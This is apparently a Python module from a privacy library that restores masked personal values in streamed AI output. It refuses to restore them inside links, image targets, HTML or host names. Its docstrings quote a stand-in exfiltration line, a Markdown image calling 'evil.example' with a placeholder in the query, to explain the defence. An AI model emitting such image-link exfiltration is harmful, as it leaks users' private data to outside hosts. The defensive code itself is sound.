"""Puts values back into a stream of text, wherever the other side wrote one of our placeholders.

What counts as a placeholder: index and nonce exactly as issued, and around and between them what models and
Markdown do to them: another kind (translated, reworded) or none, any case, full-width characters, spaces and
line breaks inside, ``_`` escaped, replaced by ``-`` or lost, zeros before the index, brackets missing,
full-width or escaped as in Markdown, JSON, HTML and URLs. Without brackets the kind has to be one that was
issued, or a word of capital letters; a word with a capital letter (``Patient_1_k7q4``) if no space follows
it; and more words may follow it with ``_`` between (``FULL_NAME_1_k7q4``). What is joined to such a
placeholder by ``_`` stays (``NAME_1_k7q4_address``). The index is compared as a number and the nonce letter
by letter; nothing is guessed.

In JSON (:mod:`sllm.privacy.json_places`) a value is written so that the JSON stays valid: escaped in a
string, in quotes where there are none, and a number that was masked without them.

Where a value would be sent to somebody (:mod:`sllm.privacy.link_places`), its placeholder stays: the other
side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``, and a chat window loads images by itself.
"""

from __future__ import annotations

import functools
import re
import urllib.parse
from typing import TYPE_CHECKING, NamedTuple

from sllm.privacy.findings import KINDS
from sllm.privacy.json_places import JsonPlaces, encoded_string
from sllm.privacy.link_places import LinkPlaces
from sllm.privacy.regex import lazy

if TYPE_CHECKING:
    from collections.abc import Sequence

    from sllm.privacy.placeholders import Form, Placeholders

__all__ = ["Restorer"]

# Full-width forms of ASCII.
_WIDE = {code: code - 0xFEE0 for code in range(0xFF01, 0xFF5F)}

# The parts of a placeholder. All are bounded, so that what is held back is bounded too.
_SPACE = r"\s\u200b-\u200d\u2060\ufeff"
_SPACES = rf"(?:[{_SPACE}]|\\(?:[nrt]|\Z)){{0,4}}"
_JOINER = r"_*‐‑–-"
_JOINT = rf"{_SPACES}\\{{0,2}}[{_JOINER}]?{_SPACES}"
_KIND = rf"(?:[^\W\d]|[{_SPACE}\\{_JOINER}]){{0,24}}"
_NONCE = r"[a-z][a-z0-9]{3,15}"
# Brackets as they are, as Markdown has them, and as JSON, URLs and HTML do: what opens, and what closes then.
_ENCODED = {"\\u005b": "\\u005d", "%5b": "%5d", "&#91;": "&#93;"}
_OPEN = "|".join([r"\\?[\[【〔]", *map(re.escape, _ENCODED)])
_CLOSE = "|".join([r"\\?[\]】〕]", *map(re.escape, _ENCODED.values())])
_LONGEST = 160  # characters, more than a placeholder has

_SPLITS_KIND = lazy(rf"(?:\\[nrt]|[{_SPACE}\\{_JOINER}])+")
_BRACKET = lazy(r"[\[\]]")
# The shape of a placeholder, whether it was issued or not, and of one without a nonce.
_SHAPE = lazy(
    rf"(?:{_OPEN})\s?([^\W\d_]{{1,16}})[_\s-]{{1,4}}0{{0,6}}([0-9]{{1,9}})"
    rf"(?:(?:[_\s-]|\\[nrt]){{1,4}}([a-z][a-z0-9]{{3,11}}))?\s?(?:{_CLOSE})"
)

# How far behind a placeholder the rest of a host name is looked for; there may be more placeholders in it.
_MAX_HOST = 512
# What ends a word for every program that looks for names of hosts and for addresses.
_WORD = lazy(r"[^\s<>!'()*/?{}，。！？；：、…“”‘’「」『』《》〈〉（）／—·｡､]*")
# What makes a word that goes on so behind a placeholder the name of a host, or an address: a dot and a name
# of a host behind it ("[PHONE_1_k7q4].谢谢" has none), an at-sign, or one of them as HTML has it.
_NO_LABEL = r".．@＠\"#&,:;"
_GOES_ON = lazy(
    rf"[^{_NO_LABEL}]*[.．][^@＠\"#&,:;]*?(?:[A-Za-z0-9]|[^\W_][^{_NO_LABEL}]*[.．][^\W_])"
    r"|.*?(?:[@＠].*?[^\W_]|&(?:#0*(?:46|64)|#[xX]0*(?:2[eE]|40)|period|commat)(?![A-Za-z0-9]))"
)
# A value that is a URL without a path: what follows may be more of its host.
_HOST_AT_END = lazy(r"(?://|(?<![^\W_])www\.)[^/?#\\\s]*\Z", re.I)
_REST_OF_HOST = lazy(r"""[^\s/?#\\"'<>]*""")
_OTHER_HOST = lazy(r".*?(?:[@＠%]|[.．][^\W_]|[。｡][A-Za-z0-9])")


def _begun(literals: Sequence[str]) -> str:
    """A pattern of all that begins one of the texts and is not all of it."""
    return "|".join(re.escape(one[:n]) for one in literals for n in range(len(one) - 1, 0, -1))


@functools.lru_cache(maxsize=64)
def _patterns(kinds: tuple[str, ...]) -> tuple[re.Pattern[str], re.Pattern[str]]:
    """What is a placeholder, with a quote before it that may belong to it, and what may become one at the end
    of a text, where kinds (in lower case) were issued.
    """
    words = "(?:_[A-Za-z_]{0,18})?"
    bare = (
        rf"(?<![A-Za-z0-9])(?P<bare>(?:(?i:{'|'.join(kinds)})|[A-Z]{{1,24}}){words}(?![A-Za-z])"
        rf"|[A-Z][A-Za-z]{{0,23}}{words}(?=\\?[{_JOINER}]|\\?\Z))"
    )
    kind = rf"(?:(?P<open>(?i:{_OPEN}))(?P<kind>{_KIND})|{bare})"
    whole = (
        rf'(?:(?<!\\)")?(?P<all>{kind}{_JOINT}0{{0,6}}(?P<index>[1-9][0-9]{{0,8}}){_JOINT}(?P<nonce>(?i:{_NONCE}))'
        rf"(?![A-Za-z0-9])(?:(?P<gap>{_SPACES})(?P<close>(?i:{_CLOSE})))?)"
    )
    close = rf"(?:{_SPACES}(?:\\|(?i:{_CLOSE}|{_begun(list(_ENCODED.values()))}))?)?"
    rest = rf"{_JOINT}(?:0{{0,6}}[0-9]{{0,9}}(?:(?<=[0-9]){_JOINT}(?:(?i:[a-z][a-z0-9]{{0,15}}{close}))?)?)?"
    first = rf"\\|(?i:{_begun(list(_ENCODED))})|(?<![A-Za-z0-9])(?i:{_begun(kinds)})"
    return re.compile(whole), re.compile(rf'(?:(?:(?<!\\)")?(?:{kind}{rest}|{first})|")\Z')


class _Match(NamedTuple):
    """A placeholder in a text: the offset behind it, what it stands for, the bracket that opens it (or ""),
    and whether the bracket that closes it may belong to what stands before.
    """

    end: int
    form: Form
    opening: str
    lone: bool


class Restorer:
    """Restores placeholders in a text that comes in pieces.

    ``feed`` returns all that is certain. It holds back only text that could still become a placeholder, and a
    placeholder that may be part of a host name: up to the next space or punctuation mark, at most 512
    characters. The result does not depend on how the text was cut into pieces. Restored values are not
    searched again, so a value that contains the text of a placeholder is not changed.

    A placeholder is not restored where a program that shows the text might send the value to somebody, since
    the other side could write ``![](https://evil.example/?q=[PHONE_1_k7q4])``: in URLs and host names, in
    targets of links and images, in reference definitions, in HTML tags, scripts and style sheets, and where
    the following text makes it part of a host name or an e-mail address (``[NAME_1_k7q4].evil.example``). In
    doubt it is not restored. A URL in running text ends at the next space, as on GitHub and in most chat
    windows, also in Chinese, where no space follows it. A value that is itself a URL or an address is
    restored in running text.

    Args:
        placeholders: of a vault (:attr:`Vault.placeholders <sllm.Vault.placeholders>`); those that it issues
            later are restored too.
        in_links: also restore placeholders there: only for a text that nobody else has written.

    Attributes:
        n_restored: placeholders replaced so far.
        n_unknown: strings that look like placeholders but were never issued, or have lost index or nonce;
            they are left unchanged.
        n_in_links: issued placeholders that are left unchanged because of their place.

    Examples:
        >>> vault = sllm.Vault()
        >>> phone = vault.mask("13800138000").text
        >>> restorer = Restorer(vault.placeholders)
        >>> text = restorer.feed(f"Call {phone} ![](https://evil.example/?q={phone})") + restorer.finish()
        >>> text == f"Call 13800138000 ![](https://evil.example/?q={phone})", restorer.n_in_links
        (True, 1)

    """

    def __init__(self, placeholders: Placeholders, *, in_links: bool = False) -> None:
        self._restores_in_links = in_links
        self._placeholders = placeholders
        self._held = ""
        self._before = ""  # the last character before what is held
        self._passed: list[str] = []  # what was returned since the last placeholder
        self._final = False
        self._depth = 0  # brackets open on the line of the last placeholder
        self._links = LinkPlaces()  # of the text as it is returned, up to the last placeholder
        self._json = JsonPlaces()  # likewise
        self.n_restored = 0
        self.n_unknown = 0
        self.n_in_links = 0

    def __repr__(self) -> str:
        return (
            f"<Restorer: {self.n_restored} restored, {self.n_unknown} unknown, {len(self._held)} "
            f"characters held>"
        )

    def feed(self, chunk: str) -> str:
        """Take the next piece, and return the restored text that is certain by now.

        Raises:
            ValueError: after :meth:`finish`.
            TypeError: ``chunk`` is not a str.

        """
        if not isinstance(chunk, str):
            raise TypeError(f"expected a text, got {type(chunk).__name__}")
        if self._final:
            raise ValueError("the text was finished; a new text needs a new Restorer")
        return self._scan(chunk)

    def finish(self) -> str:
        """End the text, and return what was held back."""
        if self._final:
            return ""
        self._final = True
        rest = self._scan("")
        self._settle("")
        return rest

    def _scan(self, chunk: str) -> str:
        text = self._before + self._held + chunk
        out: list[str] = []
        at = search = len(self._before)  # up to `at` everything is in `out`
        end = len(text)
        if kinds := self._placeholders.kinds:
            flat = text.translate(_WIDE)
            whole, part = _patterns(kinds)
            low = flat.lower()
            if not any(nonce in low for nonce in self._placeholders.nonces):
                search = end
            end = self._undecided(part, flat, at)
            while (found := whole.search(flat, search)) is not None and found.start() < end:
                search = found.start() + 1
                match = self._read(found, flat)
                if match is None:
                    continue
                start = found.start()
                self._settle(text[at:start])
                out.append(text[at:start])
                # A string of JSON that is nothing but the placeholder of a number: the number has no quotes.
                quoted = match.form.is_scalar and self._json.place == "value"
                quoted = quoted and flat[start] == flat[match.end : match.end + 1] == '"'
                if not quoted and start < found.start("all"):
                    start += 1
                    self._settle('"')
                    out.append('"')
                at = search = found.end("nonce") if match.lone and self._depth else match.end + quoted
                in_link = self._in_link(text, at, match.form.text)
                if in_link is None:
                    at = end = start
                    break
                shown = text[start:at] if in_link else self._written(match, quoted)
                out.append(shown)
                self._json.feed(shown)
                self._links.feed(shown, restored=not in_link)
                self.n_in_links += in_link
                self.n_restored += not in_link
                if end < at:
                    end = self._undecided(part, flat, at)
        rest = text[at:end]
        self._passed.append(rest)
        self._before, self._held = text[end - 1 : end], text[end:]
        return "".join([*out, rest])

    def _undecided(self, part: re.Pattern[str], flat: str, at: int) -> int:
        """From where on a text could become a placeholder when more comes."""
        found = None if self._final else part.search(flat, max(at, len(flat) - _LONGEST))
        return len(flat) if found is None else found.start()

    def _read(self, found: re.Match[str], flat: str) -> _Match | None:
        """The placeholder that has the form of one, if it was issued."""
        issued = self._placeholders
        opening, close = (found["open"] or "").lower(), (found["close"] or "").lower()
        end = found.end("nonce")
        if opening:
            kinds = [word for word in _SPLITS_KIND.split(found["kind"]) if word]
            known = [word.isupper() or word.lower() in issued.kinds for word in kinds]
            # "[NAME_1_k7q4_address]", "[see NAME_1_k7q4]": the brackets hold more than a placeholder.
            if flat[end : end + 1] == "_" or (
                " " in " ".join(found["kind"].split()) and known[-1] and not all(known)
            ):
                return None
        else:
            kinds = [found["bare"].strip("_")]
        if opening in _ENCODED:
            closed = close == _ENCODED[opening]
        else:
            closed = bool(close) and close[-1] in "]】〕" and not (found["gap"] and not opening)
            if opening[:1] == "\\" and not (closed and close[0] == "\\"):
                # The backslash is the text's own; the bracket after it begins the placeholder.
                return None
        form = issued.form("_".join(kinds).lower(), int(found["index"]), found["nonce"].lower())
        if form is None:
            return None
        return _Match(found.end() if closed else end, form, opening, closed and not opening and close == "]")

    def _settle(self, text: str) -> None:
        """Takes the last of what was returned unchanged before a placeholder, and looks at all of that."""
        text = "".join([*self._passed, text])
        self._passed.clear()
        self._json.feed(text)
        if not self._restores_in_links:
            self._links.feed(text)
        _, newline, line = text.rpartition("\n")
        self._depth = 0 if newline else self._depth
        for bracket in _BRACKET.findall(line):
            self._depth = self._depth + 1 if bracket == "[" else max(0, self._depth - 1)
        self._count_misses(text.translate(_WIDE).lower())

    def _count_misses(self, flat: str) -> None:
        issued = self._placeholders
        self.n_unknown += sum(flat.count(nonce) for nonce in issued.nonces)
        for shape in _SHAPE.finditer(flat):
            kind, index, nonce = shape.groups()
            if nonce:
                self.n_unknown += not any(own in shape[0] for own in issued.nonces)
            else:
                known = kind.upper() in KINDS or kind in issued.kinds
                self.n_unknown += known and bool(issued.nonces_of(int(index)))

    def _written(self, match: _Match, quoted: bool) -> str:
        """How the value is written where the placeholder stands."""
        form = match.form
        place = self._json.place
        if place == "string":
            return encoded_string(form.text) if form.in_json is None else form.in_json
        if place == "value" and self._json.certain and not quoted and not form.is_scalar:
            return f'"{encoded_string(form.text)}"'
        if match.opening == "%5b" and self._restores_in_links:
            return urllib.parse.quote(form.text, safe="")
        return form.text

    def _in_link(self, text: str, end: int, value: str) -> bool | None:
        """Whether the value of a placeholder that ends at ``end`` would be part of a link; None: what follows
        will tell.
        """
        if self._restores_in_links:
            return False
        if self._links.inside or self._links.begins_with(value):
            return True
        goes_on, word = _GOES_ON, _WORD
        if _HOST_AT_END.search(value[-_MAX_HOST:]):
            goes_on, word = _OTHER_HOST, _REST_OF_HOST
        found = word.match(text, end, end + _MAX_HOST)
        assert found is not None
        if found.end() == len(text) < end + _MAX_HOST and not self._final:
            return None
        return goes_on.match(found[0]) is not None
